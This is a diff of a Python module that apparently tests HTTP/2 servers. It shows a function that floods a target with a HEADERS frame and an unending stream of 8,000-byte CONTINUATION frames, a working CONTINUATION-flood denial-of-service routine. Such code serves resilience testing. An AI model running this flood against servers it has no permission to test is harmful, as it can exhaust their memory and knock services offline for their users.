@@ -98,8 +98,8 @@ def rapid_reset(target: Target) -> Outcomes:
 
 def headers_without_end(target: Target) -> Outcomes:
     """One block of headers of 300 MB, in CONTINUATION frames."""
-    header = b"\0\x04long\x7f\x81\x7f" + b"a" * 16_384  # a literal of 16,384 bytes (RFC 7541, section 5.1)
-    block = header[: LARGEST_FRAME // 2]
+    # A header of 8,000 bytes, whose length is 127 + 0x41 + 0x3d * 128 (RFC 7541, section 5.1).
+    block = b"\0\x04long\x7f\xc1\x3d" + b"a" * 8000
     first = frame(HEADERS, 0, 1, HEAD)
     more = frame(CONTINUATION, 0, 1, block)
     return Counter([_flood(target, itertools.chain([first], itertools.repeat(more, FLOOD_BYTES // len(block))), 30.0)])
